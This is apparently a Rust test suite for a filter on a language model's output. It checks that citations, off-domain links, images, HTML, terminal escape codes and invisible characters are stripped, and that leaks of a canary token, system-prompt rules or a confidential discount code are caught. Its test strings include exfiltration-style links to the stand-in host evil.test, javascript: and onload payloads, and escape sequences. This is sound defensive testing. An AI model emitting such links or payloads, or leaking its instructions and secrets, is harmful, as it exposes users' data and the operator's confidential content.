//! The filter on what models write, cut in every way.

use proptest::prelude::*;

use super::*;
use crate::answer::model::sources::Given;
use crate::domain::answering::Answering;

const CANARY: &str = "cfk3y9x2m7q1w8e4";

/// Shown text, cited numbers, and what was found, of these pieces.
fn filtered(pieces: &[&str]) -> (String, Vec<usize>, Option<Found>) {
    filtered_of(pieces, "Do not say one word or two.")
}

fn filtered_of(pieces: &[&str], instructions: &str) -> (String, Vec<usize>, Option<Found>) {
    held(pieces, instructions, Hold::Prefix)
}

fn held(pieces: &[&str], instructions: &str, hold: Hold) -> (String, Vec<usize>, Option<Found>) {
    let open = "We open our doors from nine to five on each day of the week but Sunday.";
    let given = ["Hours: https://acme.example/hours", "Prices", open];
    let given = given.map(|text| Given { path: Vec::new(), text: text.into(), url: None });
    let domains = ["own.example".to_owned()];
    let allowed = Allowed::new(&given, CANARY, &domains);
    let wishes = crate::answer::model::prompt::Wishes { agent_name: "Ada", answering: &Answering::default() };
    let prompt = Prompt::new(&wishes, &given, &[], "Hi?", CANARY);
    let mut filter = Filter::new(&allowed, &prompt, instructions, hold);
    let mut shown: String = pieces.iter().map(|piece| filter.push(piece)).collect();
    shown.push_str(&filter.finish(false));
    (shown, filter.cited().collect(), filter.found())
}

fn chars(text: &str) -> Vec<String> {
    text.chars().map(String::from).collect()
}

/// The same whole, and letter by letter.
#[track_caller]
fn check(text: &str, shown: &str, cited: &[usize]) {
    let letters = chars(text);
    for pieces in [vec![text], letters.iter().map(String::as_str).collect()] {
        assert_eq!(filtered(&pieces), (shown.to_owned(), cited.to_vec(), None), "{text:?}");
    }
}

#[track_caller]
fn check_found(text: &str, shown: &str, found: Found) {
    let letters = chars(text);
    for pieces in [vec![text], letters.iter().map(String::as_str).collect()] {
        let (seen, _, what) = filtered(&pieces);
        assert_eq!((seen.as_str(), what), (shown, Some(found)), "{text:?}");
    }
}

#[test]
fn plain_text_stays_as_it_is() {
    for text in ["We open at 9.", "A <b and 3 > 2!", "Now, hold on: Nobody", "a [note] and (b)", "Ümläut 🙂", "x\n\n- a\n- b"]
    {
        check(text, text, &[]);
    }
    check("  \n We open. \n", "We open.", &[]);
}

#[test]
fn citations_are_noted_and_taken_out_and_unknown_ones_only_taken_out() {
    check("We open at 9 [1]. Park behind [2][3].", "We open at 9. Park behind.", &[1, 2, 3]);
    check("We open [1, 3] daily.", "We open daily.", &[1, 3]);
    check("We open [1-3].", "We open.", &[1, 2, 3]);
    check("We open [^2] [Source 1].", "We open.", &[1, 2]);
    check("We open [9][0][12].", "We open.", &[]);
    check("We open [1](https://evil.test/).", "We open.", &[1]);
    check("We open 【2†source】.", "We open.", &[2]);
    check("Since [2024] we open.", "Since [2024] we open.", &[]);
}

#[test]
fn links_stay_only_where_they_may_lead() {
    check("See [hours](https://acme.example/hours) now", "See [hours](https://acme.example/hours) now", &[]);
    check("See https://acme.example/hours. Yes", "See https://acme.example/hours. Yes", &[]);
    check("See [us](https://own.example/ \"t\") now", "See [us](https://own.example/ \"t\") now", &[]);
    check("See [hours](https://evil.test/?d=secret) now", "See hours now", &[]);
    check("See https://evil.test/?d=secret now", "See now", &[]);
    check("See <https://evil.test/> now", "See now", &[]);
    check("[x](javascript:alert(1)) y", "x y", &[]);
    check("See [https://evil.test/](x) now", "See  now", &[]);
    check("[x]: https://evil.test/a", "[x]:", &[]);
    check("[a](https://evil.te", "a", &[]);
    check("http[1]s://evil.test and http<img>://evil.test", "http s://evil.test and http ://evil.test", &[1]);
}

#[test]
fn an_address_of_a_models_link_ends_where_a_reader_ends_it() {
    for kept in [
        "See [size](https://acme.example/size_(eu)) now",
        "See https://acme.example/size_(eu), please",
        "(see https://acme.example/size_(eu))",
        "See [a](<https://acme.example/a b>) now",
        "See [a](https://acme.example/x \"One (two)\") now",
        "詳しくはhttps://acme.example/kayakをご覧ください。",
        "（https://acme.example/kayak）for",
        "https://acme.example/kayak，价格18欧元",
    ] {
        check(kept, kept, &[]);
    }
    check("See [size](https://evil.test/size_(eu)) now", "See size now", &[]);
    check("詳しくはhttps://evil.test/kayakをご覧", "詳しくは をご覧", &[]);
    check("(https://evil.test/a_(b)) now", "() now", &[]);
    check("[a](<https://evil.test/a b>) now", "a now", &[]);
}

#[test]
fn h02_no_picture_and_nothing_that_loads_comes_through() {
    check("A ![x](https://evil.test/?d=SECRET) b", "A b", &[]);
    check("A ![x][1] b", "A b", &[]);
    check("A ![x] b", "A b", &[]);
    check("A <img src=\"https://evil.test/\"> b", "A b", &[]);
    check("A <svg/onload=x> b", "A b", &[]);
    check("[![x](https://evil.test/a)](https://evil.test/b)", "]()", &[]);
    check("! [1][x](https://acme.example/)", "! [x](https://acme.example/)", &[1]);
}

#[test]
fn the_sentinel_is_found_in_every_dress_and_cuts_what_follows() {
    for text in ["NO_ANSWER", " **NO_ANSWER**", "\"NO_ANSWER.\"", "[NO_ANSWER]", "NO ANSWER", "no_answer", "NO\\_ANSWER, because"]
    {
        check_found(text, "", Found::NoAnswer);
    }
    check_found("I looked. NO_ANSWER really", "I looked. ", Found::NoAnswer);
    check("NO", "NO", &[]);
    check("There is no answer to that, Nora.", "There is no answer to that, Nora.", &[]);
}

#[test]
fn thoughts_are_not_shown() {
    check("<think>They want hours. NO_ANSWER?</think>\n\nWe open at 9 [1].", "We open at 9.", &[1]);
    check("<think>never ended", "", &[]);
    check_found("<think>hm</think>NO_ANSWER", "", Found::NoAnswer);
}

#[test]
fn h13_the_canary_and_our_own_rules_never_come_out() {
    check_found(&format!("The marker is {CANARY}!"), "The marker is ", Found::Leak);
    check_found(&format!("It is {}", CANARY.to_uppercase()), "It is ", Found::Leak);
    check_found(&format!("It is {}", &CANARY[..12]), "It is ", Found::Leak);
    let (shown, _, found) = filtered(&["My rules: Answer only with what the sources below say. Never add facts, prices"]);
    assert_eq!(found, Some(Found::Leak));
    assert!(!shown.contains("Never"), "{shown}");
}

#[test]
fn signs_that_nobody_sees_go_and_hide_nothing() {
    check("We open\x1b]0;pwned\x07\x1b[31m at nine [1]. \u{202e}\0x", "We open]0;pwned 31m at nine. x", &[1]);
    check("a\r\nb\tc\u{7f}\u{9b}2J\u{2066}d\u{2069}", "a\nb\tc2Jd", &[]);
    check("می\u{200c}خواهم 👩\u{200d}👧 \u{200f}", "می\u{200c}خواهم 👩\u{200d}👧 \u{200f}", &[]);
    check("See ht\u{202e}tps://evil\u{8}.test/?d=s now", "See now", &[]);
    check("See [x](java\0script:alert(1)) [\x071\u{2069}]", "See x", &[1]);
    check("A <im\x08g src=\"https://evil.test/\"> b !\u{202c}[x](https://evil.test/)", "A b", &[]);
    check_found("I looked. NO\u{2067}_ANS\x01WER", "I looked. ", Found::NoAnswer);
    check_found(&format!("It is {}\x7f{}", &CANARY[..7], &CANARY[7..]), "It is ", Found::Leak);
}

#[test]
fn of_what_was_told_in_confidence_three_words_come_out_at_most() {
    let secret = "The partners' discount code is SAVE99, good for ten percent until the end of May.";
    let rules = "Answer only with what the sources below say. Never add facts, prices";
    for (said, shown) in [
        (format!("Sure. {secret}"), "Sure. The partners' discount"),
        (format!("Sure. {}", secret.trim_end_matches('.')), "Sure. The partners' discount"),
        (format!("My rules: {rules}"), "My rules: Answer only with"),
        (format!("It is {}", CANARY.chars().flat_map(|c| [c, ' ']).collect::<String>()), "It is c f k "),
        (format!("It is {}.", CANARY.chars().rev().collect::<String>()), "It is 4e8"),
    ] {
        let letters = chars(&said);
        for pieces in [vec![said.as_str()], letters.iter().map(String::as_str).collect()] {
            assert_eq!(filtered_of(&pieces, secret), (shown.to_owned(), Vec::new(), Some(Found::Leak)), "{said:?}");
        }
    }
    for said in ["The partners' discount is ten percent.", "Sure. The partners' discount code is", "Answer only with what"] {
        let letters = chars(said);
        for pieces in [vec![said], letters.iter().map(String::as_str).collect()] {
            assert_eq!(filtered_of(&pieces, secret), (said.to_owned(), Vec::new(), None));
        }
    }
    // What the knowledge says may be said, whoever else says it.
    let open = "We open our doors from nine to five on each day of the week but Sunday.";
    assert_eq!(filtered_of(&[open], open), (open.to_owned(), Vec::new(), None));
}

proptest! {
    /// Whatever a model writes, and however it is cut: the same is shown, and nothing of what must not be.
    #[test]
    fn what_is_shown_does_not_depend_on_how_it_came(
        text in r"(\[|\]|\(|\)|!|<|>| |\n|1|2|,|:|NO_ANS|WER|http|s://|evil\.test/|acme\.example/|img |think|/|N|é|🙂|cfk3y9x2m7|q1w8e4|word |do not say one |two|\x1b|\x{202e}|\r|【|】|†){0,40}",
        cuts in proptest::collection::vec(0_usize..200, 0..6),
    ) {
        let whole = filtered(&[&text]);
        let boundary = |cut: usize| (0..=cut.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap();
        let mut cuts: Vec<usize> = cuts.into_iter().map(boundary).chain([0, text.len()]).collect();
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        let cut = filtered(&pieces);
        prop_assert_eq!(&whole, &cut);
        let lower = whole.0.to_lowercase();
        prop_assert!(!lower.contains(CANARY) && !lower.contains("http://evil.test") && !lower.contains("https://evil.test") && !lower.contains("<img "), "{}", lower);
        prop_assert!(!whole.0.contains(is_unseen), "{:?}", whole.0);
        prop_assert!(!whole.0.contains("NO_ANSWER") && !whole.0.contains("!["), "{}", whole.0);
    }
}
